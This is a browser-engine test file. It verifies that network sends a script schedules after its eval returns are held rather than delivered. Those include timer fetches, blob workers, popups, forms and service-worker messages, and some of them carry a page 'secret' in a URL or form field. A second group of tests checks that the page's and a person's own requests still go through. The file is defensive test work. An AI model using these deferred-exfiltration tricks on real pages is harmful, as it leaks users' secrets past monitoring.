// What an eval's script leaves behind, on real Chromium: a send it starts after it returned (a fetch a timer makes a
// second later, a location change, a blob worker, a window, a form into a new window or a blob shared worker it starts
// later, a message it posts to the site's service worker) reaches no one, for as long as the tab lives, and the next
// result names what it can; the page's own sends (through that service worker too) and windows to that origin, the
// person's too, keep flowing.
import { describe, expect, it } from 'vitest';
import { EVAL_ACTIVATION_MS } from '../../shared/engine/scripted-documents.js';
import { loadUrl } from '../support/browser.js';
import { pageEval } from '../support/page-probes.js';
import { lateLocationAssign } from '../support/late-location.js';
import { lateSharedWorker } from '../support/late-scripts.js';
import { watchedEngineTab } from '../support/watched-engine-tab.js';

// The browser's host judges the tab's popups by the same policy, and an engine listens for them, as the tab session
// does: a window the page opens is guarded, not let go.
const engine = watchedEngineTab({ popups: true });
const { suite, run, until, heldLater, reached } = engine;
const KEY = `document.getElementById('secret').textContent`;

/**
 * Call before the tab opens a window: the returned function resolves once that window settled either way, its request
 * reaching the site at `path` or the window closing. The browser tells of the popup's target as it opens (auto-attach)
 * and as it closes.
 */
function watchPopup(path: string): () => Promise<void> {
  const popups = new Set<string>();
  let closed = false;
  const stop = suite.browser.browser.connection.on((event) => {
    const info = event.params['targetInfo'] as { openerId?: string } | undefined;
    if (event.method === 'Target.attachedToTarget' && info?.openerId === engine.tabId)
      popups.add(String(event.params['sessionId']));
    if (event.method === 'Target.detachedFromTarget' && popups.has(String(event.params['sessionId']))) closed = true;
  });
  return async () => {
    const deadline = Date.now() + 20_000;
    while (!closed && !engine.watched.requests.some((each) => each.startsWith(path))) {
      if (Date.now() > deadline) throw new Error(popups.size > 0 ? 'the popup neither loaded nor closed' : 'no popup');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    stop();
  };
}

/**
 * Resolves on the tab's next load: that of the page a form's answer (the site's empty 404) commits, which must not end
 * the wait of the tab's way back to its page instead.
 */
function nextLoad(): Promise<void> {
  return new Promise((resolve) => {
    const off = engine.page.cdp.on((event) => {
      if (event.method === 'Page.loadEventFired' && !event.sessionId) {
        off();
        resolve();
      }
    });
  });
}

describe('what a script starts after it returned stays held', () => {
  it('a fetch a timer sends a second later', async () => {
    const result =
      await run(`setTimeout(() => fetch('${engine.watched.origin}/late-fetch?key=' + encodeURIComponent(${KEY}), { mode: 'no-cors' })
      .catch(() => undefined).finally(() => (window.lateFetch = true)), 1000); 'scheduled'`);
    expect(result.text).toBe('"scheduled"');
    await until('lateFetch');
    expect(await reached()).toEqual([]);
    const next = await run('1');
    expect(heldLater(next)).toEqual(['GET W/late-fetch?key=[redacted 34 chars] (Fetch)']);
    expect(next.text).toContain('Held, not sent, since the last eval returned: 1 request');
    expect(heldLater(await run('2'))).toEqual([]);
  });

  it('a location change a timer makes, leaving the tab on its page', () => lateLocationAssign(engine));

  it('a worker a timer starts from a blob, whose fetch carries no stack of the script', async () => {
    const worker = `fetch('${engine.watched.origin}/worker-late').catch(() => undefined).then(() => postMessage(0));`;
    await run(`setTimeout(() => {
      const late = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' })));
      late.onmessage = () => (window.workerDone = true);
    }, 1000); 0`);
    await until('workerDone');
    expect(await reached()).toEqual([]);
    expect(heldLater(await run('1'))).toEqual(['GET W/worker-late (Fetch)']);
  });

  it('a window a timer opens, whose first request is held and the empty window closed', async () => {
    const settled = watchPopup('/popup-late');
    await run(`setTimeout(() => { window.open('${engine.watched.origin}/popup-late?key=' + encodeURIComponent(${KEY}));
      window.opened = true; }, 1000); 0`);
    await until('opened');
    await settled();
    expect(await reached()).toEqual([]);
    expect(heldLater(await run('1'))).toEqual(['GET W/popup-late?key=[redacted 34 chars] (navigation)']);
  });

  it('a form a timer submits in its own frame, whose request names no stack', async () => {
    await run(`setTimeout(() => { const form = document.createElement('form');
      form.method = 'post'; form.action = '${engine.watched.origin}/form-late';
      form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
      document.body.append(form); form.submit(); setTimeout(() => (window.submitted = true), 300); }, 1000); 0`);
    await until('submitted');
    expect(await reached()).toEqual([]);
    expect(await pageEval(engine.page, 'location.pathname')).toBe('/egress-late.html');
    expect(heldLater(await run('1'))).toEqual(['POST W/form-late (navigation)']);
  });

  it('a form a timer submits once the eval’s activation is over, with no gesture at all', async () => {
    await run(`setTimeout(() => { const form = document.createElement('form'); form.action = '${engine.watched.origin}/form-later';
      document.body.append(form); form.requestSubmit(); setTimeout(() => (window.submittedLater = true), 300); },
      ${EVAL_ACTIVATION_MS + 500}); 0`);
    await until('submittedLater');
    expect(await reached()).toEqual([]);
    expect(heldLater(await run('1'))).toEqual(['GET W/form-later (navigation)']);
  });

  it('a form a timer submits into a new window, whose request names no stack either', async () => {
    const settled = watchPopup('/form-late');
    await run(`setTimeout(() => { const form = document.createElement('form');
      form.target = '_blank'; form.method = 'post'; form.action = '${engine.watched.origin}/form-late';
      form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
      document.body.append(form); form.submit(); window.submittedBlank = true; }, 1000); 0`);
    await until('submittedBlank');
    await settled();
    expect(await reached()).toEqual([]);
    expect(heldLater(await run('1'))).toEqual(['POST W/form-late (navigation)']);
  });

  it('a shared worker a timer starts from a blob, which no session of the tab reaches', async () => {
    await run(lateSharedWorker(`${engine.watched.origin}/shared-late`));
    await until('sharedDone');
    expect(await reached()).toEqual([]);
  });

  it('a message the script posts to the site’s service worker, which fetches as it is told', async () => {
    // The site's worker controls the page first (the page's own doing, not the script's).
    await pageEval(
      engine.page,
      `navigator.serviceWorker.register('/egress-late-sw.js').then(() => navigator.serviceWorker.controller
        ? true : new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve(true))))`,
    );
    await run(`navigator.serviceWorker.onmessage = () => (window.swDone = true);
      setTimeout(() => navigator.serviceWorker.controller.postMessage('${engine.watched.origin}/sw-late'), 1000); 0`);
    await until('swDone');
    expect(await reached()).toEqual([]);
  });

  it('the page’s own sends to that origin flow, after every script', async () => {
    await run('1');
    expect(await reached()).toEqual([]);
    expect(engine.watched.requests).toEqual(['/page-own']);
  });

  it('a form the person submits with a click, once the eval’s activation is over, goes', async () => {
    await run(`const form = document.createElement('form'); form.action = '${engine.watched.origin}/person-form';
      const button = Object.assign(document.createElement('button'), { textContent: 'Send' });
      button.style = 'position:fixed;left:0;top:0;width:200px;height:100px'; form.append(button);
      document.body.append(form); 0`);
    // The eval's own gesture is what the trail waits out; a person's click after it is theirs.
    await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
    const answered = nextLoad();
    for (const type of ['mousePressed', 'mouseReleased'])
      await engine.page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
    const deadline = Date.now() + 20_000;
    while (!engine.watched.requests.some((path) => path.startsWith('/person-form'))) {
      if (Date.now() > deadline) throw new Error('the person’s form never reached its site');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    await answered;
    await loadUrl(engine.page, suite.server.url('egress-late.html'));
  });

  it('a link the person clicks into a new window, once the eval’s activation is over, loads', async () => {
    await run(`const link = Object.assign(document.createElement('a'), { href: '${engine.watched.origin}/person-window',
      target: '_blank', textContent: 'Open' });
      link.style = 'position:fixed;left:0;top:0;width:200px;height:100px;display:block'; document.body.append(link); 0`);
    await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
    for (const type of ['mousePressed', 'mouseReleased'])
      await engine.page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
    const deadline = Date.now() + 20_000;
    while (!engine.watched.requests.includes('/person-window')) {
      if (Date.now() > deadline) throw new Error('the person’s window never loaded');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  });

  it('a form a new document submits on its own, with no gesture, goes: the script never reached it', async () => {
    await run('1');
    await loadUrl(
      engine.page,
      suite.server.url(`egress-late.html?post=${encodeURIComponent(`${engine.watched.origin}/page-form`)}`),
    );
    const answered = nextLoad();
    const deadline = Date.now() + 20_000;
    while (!engine.watched.requests.includes('/page-form')) {
      if (Date.now() > deadline) throw new Error('the page’s own form never reached its site');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    await answered;
    await loadUrl(engine.page, suite.server.url('egress-late.html'));
  });

  it('a window the page itself opens to that origin loads', async () => {
    await run('1');
    await engine.page.cdp.send('Runtime.evaluate', {
      expression: `window.open('${engine.watched.origin}/page-window')`,
      userGesture: true,
    });
    const deadline = Date.now() + 20_000;
    while (!engine.watched.requests.includes('/page-window')) {
      if (Date.now() > deadline) throw new Error('the page’s own window never loaded');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  });
});
